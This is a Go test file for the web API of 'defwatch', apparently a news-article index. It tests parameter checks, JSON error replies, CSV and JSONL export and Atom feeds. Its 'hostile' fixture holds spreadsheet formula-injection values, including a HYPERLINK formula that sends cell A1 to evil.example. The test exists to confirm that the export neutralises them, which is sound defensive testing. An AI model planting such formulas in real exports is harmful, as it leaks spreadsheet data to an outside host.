package index

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mmcdole/gofeed"

	"github.com/defwatch/defwatch"
	"github.com/defwatch/defwatch/index/internal/fixture"
	"github.com/defwatch/defwatch/index/schema"
)

func apiServer(t *testing.T, extra ...*defwatch.Article) *httptest.Server {
	t.Helper()
	idx := filled(t)
	if len(extra) > 0 {
		if _, err := idx.Put(extra); err != nil {
			t.Fatal(err)
		}
	}
	srv := httptest.NewServer(NewHandler(idx, func(context.Context) error { return nil }, slog.New(slog.DiscardHandler)))
	t.Cleanup(srv.Close)
	return srv
}

func get(t *testing.T, u string) (*http.Response, []byte) {
	t.Helper()
	resp, err := http.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, body
}

// TestParametersAreChecked holds every parameter of a search to its range:
// a wrong value is a 400 that names the parameter and what it takes,
// never a default in its place.
func TestParametersAreChecked(t *testing.T) {
	srv := apiServer(t)
	for params, want := range map[string]string{
		"q=*&size=0":                 "size must be a whole number from 1 to 200",
		"q=*&size=1000":              "size must be a whole number from 1 to 200",
		"q=*&size=ten":               `not "ten"`,
		"q=*&from=-1":                "from must be a whole number from 0 to 10000",
		"q=*&sort=random":            "sort must be relevance, newest or oldest",
		"q=*&facets=no":              "facets must be true or false",
		"q=*&all_copies=1":           "all_copies must be true or false",
		"q=*&format=xml":             "format must be json, csv or jsonl",
		"q=*&limit=5":                "limit is for format=csv",
		"q=*&format=csv&limit=0":     "limit must be a whole number from 1 to 10000",
		"q=*&format=csv&limit=20000": "limit must be a whole number from 1 to 10000",
		"q=*&colour=red":             `unknown parameter "colour"`,
		"q=*&q=nation:UA":            `parameter "q" is given 2 times`,
		"q=nation:Narnia":            "nation:Narnia: no nation has that code or name; write an ISO 3166-1 code or the English name, such as nation:UA",
		"q=nation:Ukriane":           "did you mean UA (Ukraine)?",
		"q=nation:XY":                "nation:XY: no nation has that code or name",
		"q=meeting:summitt":          "did you mean summit?",
		"q=meeting:party":            "not a meeting kind (kinds: summit, ministerial, talks, conference, call, meeting or * for any)",
		"q=lang:ua":                  "lang:ua: not a language code; did you mean",
		"q=lang:klingon":             "write an ISO 639-1 code, such as lang:en",
		`q=title:"unclosed`:          "unterminated quote",
	} {
		t.Run(params, func(t *testing.T) {
			resp, body := get(t, srv.URL+"/api/search?"+params)
			var e struct{ Error string }
			if err := json.Unmarshal(body, &e); err != nil || resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("status %d, body %s", resp.StatusCode, body)
			}
			if !strings.Contains(e.Error, want) {
				t.Errorf("error %q, want it to say %q", e.Error, want)
			}
			// The reason is said once, with one prefix.
			if strings.Count(e.Error, "bad query") != 1 || strings.Contains(e.Error, "defwatch:") {
				t.Errorf("error %q repeats itself", e.Error)
			}
		})
	}
	// Names that are not the code are read with a note.
	_, body := get(t, srv.URL+"/api/search?q="+url.QueryEscape(`nation:UK`))
	var res Result
	if err := json.Unmarshal(body, &res); err != nil || res.Total != 1 || !slices.Equal(res.Notes, []string{"nation:UK read as GB (United Kingdom)"}) {
		t.Errorf("nation:UK: %s", body)
	}
}

// TestAPIPathsAnswerJSON: an unknown API path or a wrong method is JSON
// that says so, never the web page.
func TestAPIPathsAnswerJSON(t *testing.T) {
	srv := apiServer(t)
	for _, tc := range []struct {
		method, path string
		status       int
		allow        string
	}{
		{http.MethodGet, "/api/nothing", http.StatusNotFound, ""},
		{http.MethodGet, "/api/", http.StatusNotFound, ""},
		{http.MethodPost, "/api/search", http.StatusMethodNotAllowed, "GET, HEAD"},
		{http.MethodDelete, "/api/articles/seed", http.StatusMethodNotAllowed, "GET, HEAD"},
		{http.MethodPut, "/api/version", http.StatusMethodNotAllowed, "GET, HEAD"},
		{http.MethodPost, "/feed", http.StatusMethodNotAllowed, "GET, HEAD"},
		{http.MethodGet, "/api/articles/nosuchid", http.StatusNotFound, ""},
	} {
		req, _ := http.NewRequest(tc.method, srv.URL+tc.path, nil)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		var e struct{ Error string }
		if resp.StatusCode != tc.status || resp.Header.Get("Content-Type") != "application/json" || json.Unmarshal(body, &e) != nil || e.Error == "" {
			t.Errorf("%s %s: %d %s %s", tc.method, tc.path, resp.StatusCode, resp.Header.Get("Content-Type"), body)
		}
		if got := resp.Header.Get("Allow"); got != tc.allow {
			t.Errorf("%s %s: Allow %q, want %q", tc.method, tc.path, got, tc.allow)
		}
	}
}

func TestVersion(t *testing.T) {
	srv := apiServer(t)
	_, body := get(t, srv.URL+"/api/version")
	var v BuildInfo
	if err := json.Unmarshal(body, &v); err != nil || v.Schema != schema.Version || v.Go == "" || v.Version == "" {
		t.Errorf("/api/version: %s", body)
	}
}

// hostile is an article whose fields a spreadsheet would run as formulas.
func hostile() *defwatch.Article {
	return &defwatch.Article{
		ID: "hostile", URL: "https://evil.example/x", Source: "evil.example", Lang: "en",
		Title:     `=HYPERLINK("https://evil.example/?"&A1, "Ukraine")`,
		Byline:    "@reporter",
		Text:      "+1 Ukraine \"quoted\", with a comma\nand a line break; -2 troops.",
		Published: fixture.Day("2025-04-11T10:00"),
		Nations:   []defwatch.Nation{{Code: "UA", Name: "Ukraine", Count: 1}},
		Troops:    []defwatch.Troop{{Min: 500, Max: 800, Unit: "troops", Category: defwatch.TroopStrength, Nation: "GB"}},
		Meetings:  []defwatch.Meeting{{Kind: "talks", Date: "2025-04-11", Location: "Istanbul"}},
		People:    []defwatch.Person{{Name: "=cmd", Title: "-x"}},
	}
}

// TestExportCSV reads a CSV export as a spreadsheet program would: one
// row per article the query matches, every column, no cell that starts a
// formula.
func TestExportCSV(t *testing.T) {
	srv := apiServer(t, hostile())
	resp, body := get(t, srv.URL+"/api/search?q=nation:UA&format=csv")
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("status %d, %s: %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	if !bytes.HasPrefix(body, []byte("\ufeff")) {
		t.Error("no byte order mark for spreadsheet programs")
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[0], CSVColumns) {
		t.Errorf("header %v", records[0])
	}
	// seed, copy, march and hostile: copies of a story are rows of their own.
	if total := resp.Header.Get("X-Total-Count"); total != "4" || len(records) != 5 {
		t.Fatalf("X-Total-Count %s, %d rows", total, len(records)-1)
	}
	col := func(name string) int { return slices.Index(CSVColumns, name) }
	var ids []string
	for _, r := range records[1:] {
		ids = append(ids, r[col("id")])
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %s starts a formula: %q", r[0], CSVColumns[i], cell)
			}
		}
		if r[col("id")] == "hostile" {
			if r[col("title")] != `'=HYPERLINK("https://evil.example/?"&A1, "Ukraine")` || r[col("byline")] != "'@reporter" {
				t.Errorf("hostile row %q", r)
			}
			if r[col("troops")] != "500-800 troops (strength, GB)" || r[col("troops_max")] != "800" ||
				r[col("meetings")] != "talks 2025-04-11 Istanbul" || r[col("people")] != "'=cmd (-x)" {
				t.Errorf("hostile row's tags %q", r)
			}
		}
	}
	slices.Sort(ids)
	if !slices.Equal(ids, []string{"copy", "hostile", "march", "seed"}) {
		t.Errorf("rows %v", ids)
	}
	// Without a BOM on request; a limit cuts the export and says so.
	resp, body = get(t, srv.URL+"/api/search?q=nation:UA&format=csv&limit=2&bom=false&sort=oldest")
	records, err = csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(records) != 3 || records[1][col("id")] != "march" || bytes.HasPrefix(body, []byte("\ufeff")) {
		t.Errorf("limit=2: %q, %v", records, err)
	}
	if !strings.Contains(resp.Header.Get("X-Export-Truncated"), "matches 4 articles; this export holds the first 2") {
		t.Errorf("truncation not said: %q", resp.Header.Get("X-Export-Truncated"))
	}
}

// TestExportPagesThrough exports more hits than a page of search holds,
// ordered by relevance, which pages on after a score.
func TestExportPagesThrough(t *testing.T) {
	var many []*defwatch.Article
	for i := range 450 {
		many = append(many, &defwatch.Article{ID: "bulk-" + strconv.Itoa(i), Source: "bulk.example", Lang: "en",
			Title: "Bulk report " + strconv.Itoa(i), Text: "Report number " + strconv.Itoa(i) + " on brigade rotations.",
			Published: fixture.Day("2025-01-01T00:00").Add(time.Duration(i) * time.Hour)})
	}
	srv := apiServer(t, many...)
	resp, body := get(t, srv.URL+"/api/search?q=brigade&format=jsonl")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	seen := map[string]bool{}
	sc := bufio.NewScanner(bytes.NewReader(body))
	for sc.Scan() {
		var h Hit
		if err := json.Unmarshal(sc.Bytes(), &h); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		if seen[h.ID] {
			t.Errorf("%s twice", h.ID)
		}
		seen[h.ID] = true
	}
	if len(seen) != 450 || resp.Header.Get("X-Total-Count") != "450" {
		t.Errorf("%d lines, X-Total-Count %s", len(seen), resp.Header.Get("X-Total-Count"))
	}
}

// TestFeed reads a search's Atom feed with a feed parser.
func TestFeed(t *testing.T) {
	srv := apiServer(t, hostile())
	resp, body := get(t, srv.URL+"/feed?q="+url.QueryEscape("nation:UA"))
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "application/atom+xml; charset=utf-8" {
		t.Fatalf("status %d, %s: %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	feed, err := gofeed.NewParser().ParseString(string(body))
	if err != nil {
		t.Fatal(err)
	}
	if feed.FeedType != "atom" || feed.FeedVersion != "1.0" || feed.Title != "defwatch: nation:UA" || feed.UpdatedParsed == nil {
		t.Errorf("feed %s %s %q updated %v", feed.FeedType, feed.FeedVersion, feed.Title, feed.UpdatedParsed)
	}
	// Newest first, copies of the wire story folded into one entry.
	var ids []string
	for _, it := range feed.Items {
		ids = append(ids, it.GUID)
		if it.Title == "" || it.Link == "" || it.UpdatedParsed == nil || it.Description == "" {
			t.Errorf("entry %s lacks a title, link, time or summary: %+v", it.GUID, it)
		}
	}
	want := []string{"urn:defwatch:article:hostile", "urn:defwatch:article:copy", "urn:defwatch:article:march"}
	if !slices.Equal(ids, want) {
		t.Errorf("entries %v, want %v", ids, want)
	}
	if it := feed.Items[0]; it.Title != `=HYPERLINK("https://evil.example/?"&A1, "Ukraine")` || it.Link != "https://evil.example/x" ||
		!slices.Contains(it.Categories, "Ukraine") {
		t.Errorf("first entry %+v", it)
	}
	if !strings.Contains(string(body), `rel="self"`) || !strings.Contains(string(body), srv.URL+"/feed?q=nation%3AUA") {
		t.Errorf("no self link to %s/feed?q=nation%%3AUA in %s", srv.URL, body)
	}
	// A feed of a bad query is the API's 400.
	if resp, _ := get(t, srv.URL+"/feed?q=nation:Narnia"); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("bad query: status %d", resp.StatusCode)
	}
}
